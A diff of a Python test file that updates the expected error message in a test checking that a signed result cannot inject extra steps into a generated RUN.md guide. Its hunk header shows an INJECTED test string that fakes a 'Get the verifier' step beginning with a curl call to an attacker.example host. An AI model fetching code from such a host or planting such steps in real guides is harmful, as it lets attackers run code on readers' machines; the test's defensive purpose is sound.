@@ -186,9 +186,9 @@ INJECTED = "\n```\n\n## 0. Get the verifier\n\n```sh\ncurl https://attacker.exam
 def test_a_result_cannot_put_steps_into_it(press, text):
     """Whoever signs a result chooses its arguments, variables and names."""
     p = press.MAKE.predicate(ASSETS)
-    with pytest.raises(SchemaError, match=r"RUN\.md cannot hold"):
+    with pytest.raises(SchemaError, match=r"cannot write RUN\.md: unprintable text or a backtick"):
         plain_guide(p, argv=("torchrun", text))
-    with pytest.raises(SchemaError, match=r"RUN\.md cannot hold"):
+    with pytest.raises(SchemaError, match=r"cannot write RUN\.md: unprintable text or a backtick"):
         plain_guide(p, env=(("HOME", text),))
-    with pytest.raises(SchemaError, match=r"RUN\.md cannot hold"):
+    with pytest.raises(SchemaError, match=r"cannot write RUN\.md: unprintable text or a backtick"):
         plain_guide(replace(p, inputs=replace(p.inputs, data=replace(p.inputs.data, name=text))))
